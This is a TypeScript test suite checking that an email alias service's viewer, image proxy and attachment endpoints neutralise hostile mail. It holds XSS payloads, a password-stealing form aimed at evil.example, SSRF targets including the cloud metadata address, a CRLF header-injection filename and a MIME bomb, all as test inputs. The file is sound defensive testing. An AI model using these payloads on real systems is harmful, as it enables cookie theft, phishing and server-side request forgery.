import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { JSDOM } from 'jsdom';
import type { Alias } from '@app/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Client, createAlias, signedIn } from './alias-helpers';
import { getMessage, mailRig, parseCsp, waitForMessages, type MailRig } from './messages-helpers';
import { sendMail } from '@app/testing';

let t: MailRig;
let owner: Client;
let alias: Alias;
/** A loopback HTTP server standing in for remote image hosts; it counts every request it gets. */
let remote: Server;
let remoteHits = 0;
let remoteUrl: string;

beforeAll(async () => {
  t = await mailRig();
  owner = await signedIn(t.app, t.services);
  alias = await createAlias(owner);
  remote = createServer((_req, res) => {
    remoteHits++;
    res.writeHead(200, { 'Content-Type': 'image/png' }).end('png');
  });
  await new Promise<void>((ok) => remote.listen(0, '127.0.0.1', ok));
  remoteUrl = `http://127.0.0.1:${(remote.address() as AddressInfo).port}`;
});
afterAll(async () => {
  remote?.close();
  await t?.close();
});

async function deliver(mail: Parameters<typeof sendMail>[1]): Promise<number> {
  const before = (await waitForMessages(owner, alias.id, 0)).length;
  await sendMail(t.mx.port, { from: 'attacker@evil.example', to: alias.address, ...mail });
  const list = await waitForMessages(owner, alias.id, before + 1);
  return list[0]!.id;
}

const viewer = (id: number, images = false) =>
  owner.call({ method: 'GET', url: `/viewer/${owner.id}/${alias.id}/${id}${images ? '?images=1' : ''}` });

/** Nothing in the document can run, navigate, submit or fetch by itself. */
function assertInert(html: string) {
  const doc = new JSDOM(html).window.document;
  expect(doc.querySelectorAll('script, iframe, object, embed, form, input, button, base, meta, link, svg, math').length).toBe(0);
  for (const el of doc.querySelectorAll('*')) {
    for (const a of el.attributes) {
      expect(a.name.startsWith('on'), `${el.tagName}[${a.name}]`).toBe(false);
      if (['href', 'src', 'action', 'formaction', 'background', 'xlink:href'].includes(a.name)) {
        expect(a.value.trim().toLowerCase()).not.toMatch(/^(?:javascript|vbscript|data:text|file):/);
      }
    }
  }
  return doc;
}

describe('the XSS message (H1, H4, H5, H7, H12)', () => {
  const XSS = `
    <html><head>
      <meta http-equiv="refresh" content="0;url=https://evil.example/phish">
      <base href="https://evil.example/">
      <script>alert('head')</script>
      <style>@import url(${'https://evil.example/x.css'}); body { background: url(https://evil.example/bg.png) }</style>
    </head><body>
      <script>alert(document.cookie)</script>
      <img src="x" onerror="alert(1)">
      <a href="javascript:alert(2)">click me</a>
      <a href="JaVaScRiPt:alert(3)">and me</a>
      <a href="https://ok.example/page">a fine link</a>
      <form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>
      <svg onload="alert(4)"><script>alert(5)</script><animate attributeName="href" values="javascript:alert(6)"/></svg>
      <iframe src="https://evil.example/frame"></iframe>
      <img src="REMOTE/pixel.gif" width="1" height="1" alt="">
      <img src="REMOTE/photo.png" width="320" height="200" alt="photo">
      <p style="background-image:url(REMOTE/style.png)">styled</p>
    </body></html>`;
  let id: number;

  beforeAll(async () => {
    id = await deliver({ subject: '<img src=x onerror=alert(1)>', html: XSS.replaceAll('REMOTE', remoteUrl), text: 'xss' });
  });

  it('the viewer output has nothing active, under a CSP that allows no script', async () => {
    const res = await viewer(id);
    expect(res.statusCode).toBe(200);
    const csp = parseCsp(res.headers['content-security-policy'] as string);
    expect(csp.get('default-src')).toEqual(["'none'"]);
    expect(csp.has('script-src')).toBe(false);
    expect(csp.get('sandbox')).not.toContain('allow-scripts');
    const doc = assertInert(res.body);
    expect(res.body).not.toMatch(/alert\(/);
    expect(res.body).not.toContain('evil.example');
    const links = [...doc.querySelectorAll('a')];
    expect(links.filter((a) => a.hasAttribute('href')).map((a) => a.getAttribute('href'))).toEqual(['https://ok.example/page']);
    for (const a of links.filter((l) => l.hasAttribute('href'))) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('loads no remote content by default: no remote src, the pixel blocked, no request made (H5)', async () => {
    const hits = remoteHits;
    const res = await viewer(id);
    const doc = new JSDOM(res.body).window.document;
    for (const img of doc.querySelectorAll('img')) {
      const src = img.getAttribute('src');
      if (src) expect(src.startsWith('data:') || src.startsWith('/api/')).toBe(true);
    }
    // The original URL survives only in the inert data-blocked-src attribute of a blocked image.
    for (const el of doc.querySelectorAll('*')) {
      for (const a of el.attributes)
        if (a.name !== 'data-blocked-src') expect(a.value, `${el.tagName}[${a.name}]`).not.toContain(remoteUrl);
    }
    expect([...doc.querySelectorAll('style')].map((s) => s.textContent).join('')).not.toContain(remoteUrl);
    expect(remoteHits).toBe(hits);
    // The subject is data, not markup: it arrives as the literal string (H10 is the SPA's side).
    expect((await getMessage(owner, alias.id, id)).subject).toBe('<img src=x onerror=alert(1)>');
  });

  it('with ?images=1 remote images go through the signed image proxy, but the 1×1 pixel never (H6, H7)', async () => {
    const res = await viewer(id, true);
    const doc = new JSDOM(res.body).window.document;
    const srcs = [...doc.querySelectorAll('img')].map((i) => i.getAttribute('src')).filter(Boolean) as string[];
    const proxied = srcs.filter((s) => s.startsWith('/api/image-proxy?'));
    expect(proxied).toHaveLength(1);
    expect(decodeURIComponent(proxied[0]!)).toContain('/photo.png');
    expect(srcs.join(' ')).not.toContain('pixel.gif');
    expect(res.body).not.toContain(`src="${remoteUrl}`);
    // The proxy itself refuses loopback targets (the stand-in host is on 127.0.0.1): no request leaves.
    const hits = remoteHits;
    const img = await t.app.inject({ method: 'GET', url: proxied[0]! });
    expect(img.statusCode).toBe(403);
    expect(remoteHits).toBe(hits);
  });
});

describe('the image proxy refuses private targets (H6)', () => {
  it('refuses loopback and private hosts, and unsigned or re-targeted URLs', async () => {
    const id = await deliver({
      subject: 'img',
      html: `<img src="${remoteUrl}/a.png"><img src="http://localhost:${new URL(remoteUrl).port}/b.png"><img src="http://[::1]:1/c.png"><img src="http://169.254.169.254/latest/meta-data/x.png">`,
    });
    const doc = new JSDOM((await viewer(id, true)).body).window.document;
    const proxied = [...doc.querySelectorAll('img')]
      .map((i) => i.getAttribute('src')!)
      .filter((s) => s?.startsWith('/api/image-proxy'));
    expect(proxied).toHaveLength(4);
    const hits = remoteHits;
    for (const src of proxied) expect((await t.app.inject({ method: 'GET', url: src })).statusCode).toBe(403);
    expect(remoteHits).toBe(hits);
    // A signature is bound to its URL and account.
    const other = proxied[0]!.replace(/url=[^&]+/, `url=${encodeURIComponent('https://example.com/x.png')}`);
    expect((await t.app.inject({ method: 'GET', url: other })).statusCode).toBe(404);
    expect(
      (
        await t.app.inject({
          method: 'GET',
          url: `/api/image-proxy?u=${owner.id}&m=${id}&s=1&exp=9999999999&sig=x&url=https%3A%2F%2Fexample.com%2Fa.png`,
        })
      ).statusCode,
    ).toBe(404);
  });
});

describe('plain text bodies are escaped and linkified (H8)', () => {
  it.each([
    `http://example.com?"onmouseover="alert('XSS')"`,
    'http://example.com/<script>alert(1)</script>',
    'a@a.co?]<img/src="x"/onerror=alert(document.domain)>',
  ])('%s', async (text) => {
    const id = await deliver({ subject: 'text', text });
    const res = await viewer(id);
    const doc = assertInert(res.body);
    expect(doc.querySelectorAll('img, script').length).toBe(0);
    for (const a of doc.querySelectorAll('a')) {
      expect([...a.attributes].map((x) => x.name).sort()).toEqual(['href', 'rel', 'target']);
    }
    expect(doc.body.textContent).toContain(text.slice(0, 12));
  });
});

describe('attachments are never served as active content (H9)', () => {
  it('an HTML attachment with script is a download of type octet-stream, with a sandbox CSP', async () => {
    const id = await deliver({
      subject: 'attachments',
      text: 'see attached',
      attachments: [
        { filename: 'page.html', content: '<script>alert(1)</script>', contentType: 'text/html' },
        { filename: 'pic.svg', content: '<svg onload="alert(1)"/>', contentType: 'image/svg+xml' },
        { filename: 'evil"\r\nX-Injected: yes.txt', content: 'hi', contentType: 'text/plain' },
      ],
    });
    const m = await getMessage(owner, alias.id, id);
    for (const a of m.attachments) {
      for (const inline of ['', '?inline=1']) {
        const res = await owner.call({
          method: 'GET',
          url: owner.url(`/alias/${alias.id}/message/${id}/attachment/${a.id}${inline}`),
        });
        expect(res.statusCode).toBe(200);
        expect(String(res.headers['content-type'])).not.toMatch(/html|svg|xml|javascript/);
        expect(res.headers['content-disposition']).toMatch(/^attachment; filename="[^"\r\n]*"; filename\*=UTF-8''[^\s"]+$/);
        expect(res.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
        expect(res.headers['x-content-type-options']).toBe('nosniff');
        expect(res.headers['x-injected']).toBeUndefined();
      }
    }
    expect(m.attachments.find((a) => a.filename.includes('page'))!.content_type).toBe('text/html');
  });

  it('a message that cannot be parsed is listed as failed and its raw bytes download unchanged (D11, M1)', async () => {
    const parts = Array.from({ length: 1002 }, (_, i) => `--b\r\nContent-Type: text/plain\r\n\r\npart ${i}\r\n`).join('');
    const raw = `From: bomb@evil.example\r\nTo: ${alias.address}\r\nSubject: bomb\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${parts}--b--\r\n`;
    const id = await deliver({ envelope: { from: 'bomb@evil.example', to: [alias.address] }, raw });
    const list = await waitForMessages(owner, alias.id);
    expect(list.find((m) => m.id === id)!.state).toBe('failed');
    const res = await owner.call({ method: 'GET', url: owner.url(`/alias/${alias.id}/message/${id}/raw`) });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('message/rfc822');
    expect(res.headers['content-disposition']).toMatch(/^attachment; /);
    expect(res.rawPayload.toString()).toBe(raw);
    const v = await viewer(id);
    expect(v.statusCode).toBe(200);
    expect(v.body).toContain('could not be displayed');
  });
});
